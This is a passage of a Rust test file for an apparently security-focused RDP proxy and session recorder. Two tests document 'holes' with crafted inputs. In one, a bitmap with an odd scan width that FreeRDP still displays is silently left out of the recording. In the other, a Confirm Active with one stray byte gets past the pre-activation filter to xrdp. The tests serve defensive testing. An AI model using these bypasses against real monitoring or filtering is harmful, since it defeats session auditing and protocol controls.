    fast_path(&body)
}

/// HOLE (recorder, silent): a compressed bitmap whose TS_CD_HEADER has a cbScanWidth that is
/// not a multiple of 4 (or a cbCompFirstRowSize that is not 0). FreeRDP reads both fields and
/// uses neither (`update_read_bitmap_data`; `gdi_Bitmap_Decompress` decodes with the bitmap's
/// width and height), so it draws the bitmap. IronRDP's `CompressedDataHeader::decode` rejects
/// them with an InvalidField error, and `FastPathProcessor::process_single_update` turns an
/// InvalidField into "Ignoring invalid Fast-Path update": the whole update (every rectangle in
/// it) is dropped with no error, no gap counted, no refresh asked. A target hides any compressed
/// bitmap from the recording with one byte.
#[test]
fn red17e_a_compressed_bitmap_with_an_odd_scan_width_is_silently_not_recorded() {
    let replayed = || {
        let mut decoder = crate::decode::PassiveDecoder::new();
        for (tag, pdu) in crate::decode::tests::records(include_bytes!("testdata/shadow_bitmap.cap")) {
            match tag {
                b'C' => decoder.observe_client(pdu).unwrap(),
                b'T' => drop(decoder.observe_target(pdu).unwrap()),
                _ => {}
            }
        }
        decoder
    };
    let pixel = |d: &crate::decode::PassiveDecoder| {
        let s = d.screen().unwrap();
        let at = 4 * s.stride + 4 * 4;
        [s.bgrx[at], s.bgrx[at + 1], s.bgrx[at + 2]]
    };
    // Control: with cbScanWidth 32 the recorder draws the red square.
    let mut control = replayed();
    assert_ne!(pixel(&control), [0, 0, 255]);
    control.observe_target(&planar_red_update(32)).unwrap();
    assert_eq!(pixel(&control), [0, 0, 255], "control: the planar square is decodable");
    // cbScanWidth 30: FreeRDP reads the same rectangle and data (the model reads what
    // `update_read_bitmap_data` reads) and draws it; the recorder draws nothing, and says so
    // nowhere.
    let frame = planar_red_update(30);
    // The update after the fast-path header (3 bytes) and the update header and size (3).
    let rects = freerdp_bitmap_rectangles(&frame[6..]);
    assert_eq!((rects.len(), rects[0].3.len()), (1, 194));
    assert_eq!(filter(true).from_target(&frame).unwrap(), Verdict::Forward);
    let mut decoder = replayed();
    let before = pixel(&decoder);
    let updates = decoder.observe_target(&frame).expect("no error: nothing is counted");
    assert!(
        !updates
            .iter()
            .any(|u| matches!(u, crate::decode::Update::Frame { .. } | crate::decode::Update::RefreshWanted)),
        "{updates:?}"
    );
    assert_eq!(pixel(&decoder), before, "the recording never shows the red square");
}

/// HOLE (rule 2's neighbour, no security header needed): before activation a client message
/// the filter cannot read to its end passes whole, so a Confirm Active followed by one stray
/// byte reaches the target untrimmed. xrdp clears `is_security_header_present` on the client's
/// licence PDU and sends its Demand Active; a client that sends its Confirm Active right behind
/// its licence PDU (one write: the box's client pump judges both before the Demand Active comes
/// back) has it judged while the filter is not active. xrdp's `xrdp_rdp_recv` reads the Confirm
/// Active (the stray byte is "bad RDP packet", skipped) and `xrdp_caps_process_confirm_active`
/// takes its orders.
#[test]
fn red17e_a_confirm_active_with_a_stray_byte_before_activation_passes_untrimmed() {
    // A source descriptor that keeps INFO_PKT (0x40) out of totalLength, as an attacker would
    // (the filter takes a header with that bit for a Client Info).
    let confirm = (5..80).map(|n| confirm_active_with_orders_from(&"M".repeat(n))).find(|c| c[0] & 0x40 == 0).unwrap();
    assert!(offers_orders(&confirm));
    let mut data = confirm.clone();
    data.push(0x00);
    let verdict = filter(false).from_client(&send_data(1003, data.clone())).unwrap();
    assert_eq!(verdict, Verdict::Forward, "forwarded as it is: the orders reach the target");
    // Control: without the stray byte it is trimmed.
    let Verdict::Replace(out) = filter(false).from_client(&send_data(1003, confirm)).unwrap() else {
        panic!("not trimmed")
    };
    let X224(McsMessage::SendDataRequest(req)) = decode::<X224<McsMessage<'_>>>(&out).unwrap() else { panic!() };
    assert!(!offers_orders(&req.user_data));
}
